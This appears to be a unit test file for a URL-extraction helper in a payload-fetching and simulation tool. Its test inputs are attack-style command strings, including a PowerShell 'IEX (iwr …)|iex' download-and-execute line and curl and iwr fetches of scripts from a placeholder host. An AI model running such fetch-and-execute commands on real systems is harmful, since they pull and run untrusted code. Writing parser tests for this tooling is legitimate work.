/** One URL cutter for `atlas payloads fetch` and the simulator: the edge cases where the two used to differ. */
import { describe, expect, it } from 'vitest';
import { extractUrls } from '../../src/lib/payloads/urls.ts';

describe('extractUrls', () => {
  it('ends a URL at a backslash: in a command it escapes the quote after the URL', () => {
    expect(extractUrls('powershell -c "iwr \\"https://h/x.ps1\\" -OutFile x.ps1"')).toEqual(['https://h/x.ps1']);
  });
  it('ends a URL at ] (the end of [ … ] around it)', () => {
    expect(extractUrls('$urls = [https://h/a.ps1]')).toEqual(['https://h/a.ps1']);
  });
  it('drops trailing sentence punctuation (. and :), keeps dots inside', () => {
    expect(extractUrls('Download https://h/v1.2/tool.ps1. Then run: https://h/y.sh: done')).toEqual(['https://h/v1.2/tool.ps1', 'https://h/y.sh']);
  });
  it('keeps queries, ports and a bracketed IPv6 host whole', () => {
    expect(extractUrls("iwr 'https://h:8443/x.ps1?raw=true&a=1'; curl http://[::1]:8080/p/x.sh")).toEqual([
      'https://h:8443/x.ps1?raw=true&a=1',
      'http://[::1]:8080/p/x.sh',
    ]);
  });
  it('ends at quotes, backticks, parentheses, pipes, semicolons and commas', () => {
    expect(extractUrls("IEX (iwr https://h/a.ps1)|iex; `https://h/b`,'https://h/c'")).toEqual(['https://h/a.ps1', 'https://h/b', 'https://h/c']);
  });
});
